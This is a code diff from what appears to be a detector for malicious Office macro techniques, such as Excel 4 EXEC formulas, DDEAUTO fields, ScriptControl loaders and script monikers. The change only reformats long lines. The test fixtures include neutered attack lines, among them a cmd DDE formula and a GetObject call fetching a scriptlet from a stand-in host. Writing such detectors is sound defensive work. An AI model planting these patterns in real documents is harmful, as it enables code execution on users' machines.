@@ -7,7 +7,8 @@ import { isWebDav } from './places';
 import { HOLE, KEPT } from './spelling';
 
 /** Functions of Excel 4 that reach out of the workbook. */
-const REACHING = /\b(?:exec|call|register|register\.id|fopen|fwrite|fwriteln|run|initiate|execute|workbook\.insert|set\.name|formula|save\.as|file\.delete|insert\.object|send\.keys)\s*\(/;
+const REACHING =
+  /\b(?:exec|call|register|register\.id|fopen|fwrite|fwriteln|run|initiate|execute|workbook\.insert|set\.name|formula|save\.as|file\.delete|insert\.object|send\.keys)\s*\(/;
 /** `'C:\folder\[book]Sheet'!R1C1`: how a closed workbook is read. */
 const REFERENCE = /!\$?r?[\ue001\ue002\d$a-z]*c?[\ue001\ue002\d]*["']?$|\]/;
 
@@ -21,7 +22,8 @@ function strengthOfSheetCommand(command: string, _: MacroCall, { document }: Sur
 }
 
 /** Names of what others ask by DDE. */
-const HONEST_SERVERS = /^(?:excel|winword|word|rslinx|progman|msaccess|opclink|kepdde|intouch|bloomberg|winbase|tt|reuters|rss|reuter)/;
+const HONEST_SERVERS =
+  /^(?:excel|winword|word|rslinx|progman|msaccess|opclink|kepdde|intouch|bloomberg|winbase|tt|reuters|rss|reuter)/;
 
 function strengthOfScript(code: string): Strength {
   if (isAttacking(code) || /activexobject|createobject|getobject|wscript|\bshell\b|new\s+active/.test(code)) return 1;
@@ -85,7 +87,8 @@ export const handingOver: readonly Technique[] = [
     kind: 'write',
     on: 'anything',
     matters: ({ arguments: values }) => values.slice(-1),
-    strength: (formula) => (/^=/.test(formula) && /\b(?:exec|register|call)\s*\(|=(?:cmd|mshta|powershell|msexcel)\|/.test(formula) ? 1 : 0),
+    strength: (formula) =>
+      /^=/.test(formula) && /\b(?:exec|register|call)\s*\(|=(?:cmd|mshta|powershell|msexcel)\|/.test(formula) ? 1 : 0,
     attack: ['T1059.005', 'T1559.002'],
     fires: ['Range("A1").Formula = "=EXEC(""notreal.exe"")"', 'Range("A1").Formula = "=cmd|\'/c notreal\'!A0"'],
     silent: ['Range("B9").Formula = "=SUM(B1:B8)"'],
@@ -96,9 +99,12 @@ export const handingOver: readonly Technique[] = [
     calls: ['add'],
     on: ['fields', '', /\/fields$/],
     matters: ({ arguments: values, named }) => [values[2] ?? named.get('text')],
-    strength: (text) => (/\bdde(?:auto)?\b/.test(text) ? (namesSystemProgram(text) || /\bcmd\b|\\/.test(text) ? 1 : 0.5) : 0),
+    strength: (text) =>
+      /\bdde(?:auto)?\b/.test(text) ? (namesSystemProgram(text) || /\bcmd\b|\\/.test(text) ? 1 : 0.5) : 0,
     attack: ['T1559.002'],
-    fires: ['ActiveDocument.Fields.Add Selection.Range, -1, "DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe ""/k notreal""", False'],
+    fires: [
+      'ActiveDocument.Fields.Add Selection.Range, -1, "DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe ""/k notreal""", False',
+    ],
     silent: ['ActiveDocument.Fields.Add Selection.Range, -1, "DATE"'],
   },
   {
@@ -120,11 +126,28 @@ export const handingOver: readonly Technique[] = [
   {
     id: 'script-engine',
     does: 'hands-over',
-    calls: ['addcode', 'executestatement', 'eval', 'execscript', 'transformnode', 'transformnodetoobject', 'deserialize_2', 'writeln'],
-    on: [/^msscriptcontrol\.scriptcontrol/, /^htmlfile/, /parentwindow/, /^msxml2\.(?:freethreaded)?domdocument/, /binaryformatter/, ''],
+    calls: [
+      'addcode',
+      'executestatement',
+      'eval',
+      'execscript',
+      'transformnode',
+      'transformnodetoobject',
+      'deserialize_2',
+      'writeln',
+    ],
+    on: [
+      /^msscriptcontrol\.scriptcontrol/,
+      /^htmlfile/,
+      /parentwindow/,
+      /^msxml2\.(?:freethreaded)?domdocument/,
+      /binaryformatter/,
+      '',
+    ],
     matters: argument(0),
     strength: (code, call) => {
-      if (call.name === 'transformnode' || call.name === 'transformnodetoobject' || call.name === 'deserialize_2') return 1;
+      if (call.name === 'transformnode' || call.name === 'transformnodetoobject' || call.name === 'deserialize_2')
+        return 1;
       if (call.name === 'writeln' && !code.includes('<script')) return 0;
       const strength = strengthOfScript(code);
       return call.object?.kind === 'object' && call.object.className !== '' ? strength : strength > 0.5 ? 0.5 : 0;
@@ -134,7 +157,10 @@ export const handingOver: readonly Technique[] = [
       'With CreateObject("MSScriptControl.ScriptControl")\n.Language = "VBScript"\n.AddCode ActiveDocument.Variables("code").Value\n.Run "go"\nEnd With',
       'CreateObject("htmlfile").parentWindow.execScript "new ActiveXObject(\'WScript.Shell\')", "JScript"',
     ],
-    silent: ['Set s = CreateObject("MSScriptControl.ScriptControl")\ns.Language = "JScript"\nSet o = s.Eval("(" & t & ")")', 'Set s = CreateObject("MSScriptControl.ScriptControl")\ns.AddCode "function f(a) { return a; }"'],
+    silent: [
+      'Set s = CreateObject("MSScriptControl.ScriptControl")\ns.Language = "JScript"\nSet o = s.Eval("(" & t & ")")',
+      'Set s = CreateObject("MSScriptControl.ScriptControl")\ns.AddCode "function f(a) { return a; }"',
+    ],
   },
   {
     id: 'script-moniker',
@@ -142,7 +168,8 @@ export const handingOver: readonly Technique[] = [
     calls: ['getobject', 'createobject'],
     on: 'alone',
     matters: argument(0, 'pathname'),
-    strength: (name) => (/^(?:script|scriptlet|soap):/.test(name) ? 2 : /binaryformatter|^javascript:/.test(name) ? 1 : 0),
+    strength: (name) =>
+      /^(?:script|scriptlet|soap):/.test(name) ? 2 : /binaryformatter|^javascript:/.test(name) ? 1 : 0,
     attack: ['T1218.010'],
     fires: ['Set o = GetObject("script:http://files.invalid/a.sct")'],
     silent: ['Set o = GetObject("SAPGUI")', 'Set o = GetObject(ThisWorkbook.Path & "\\book.xlsx")'],
